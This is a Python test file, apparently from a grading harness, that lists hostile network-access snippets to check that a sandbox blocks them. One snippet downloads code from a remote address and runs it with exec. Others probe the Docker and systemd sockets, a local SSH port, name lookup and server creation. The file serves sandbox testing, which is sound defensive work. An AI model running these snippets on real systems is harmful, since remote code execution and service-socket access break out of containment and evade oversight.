"""Reaching out."""

from tests.grading.attacks.attack import hostile

NETWORK = hostile(
    "network",
    {
        "connect": (
            "a connection to this machine",
            "import socket\nsocket.create_connection(('127.0.0.1', 22), 1)",
        ),
        "page": (
            "a page from elsewhere",
            "from urllib.request import urlopen\n"
            "exec(urlopen('http://192.0.2.1/answers', timeout=1).read())",
        ),
        "name_looked_up": (
            "a name",
            "import socket\nraise RuntimeError(socket.gethostbyname('localhost'))",
        ),
        "unix_socket": (
            "the sockets of services",
            """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for name in ("/run/docker.sock", "/run/systemd/notify", "/dev/log", "\\0hidden"):
        a, b = socket.socketpair(socket.AF_UNIX, kind)
        a.connect(name)
""",
        ),
        "server": (
            "a server for others",
            "import socketserver as s\ns.TCPServer(('', 0), s.BaseRequestHandler)",
        ),
    },
)
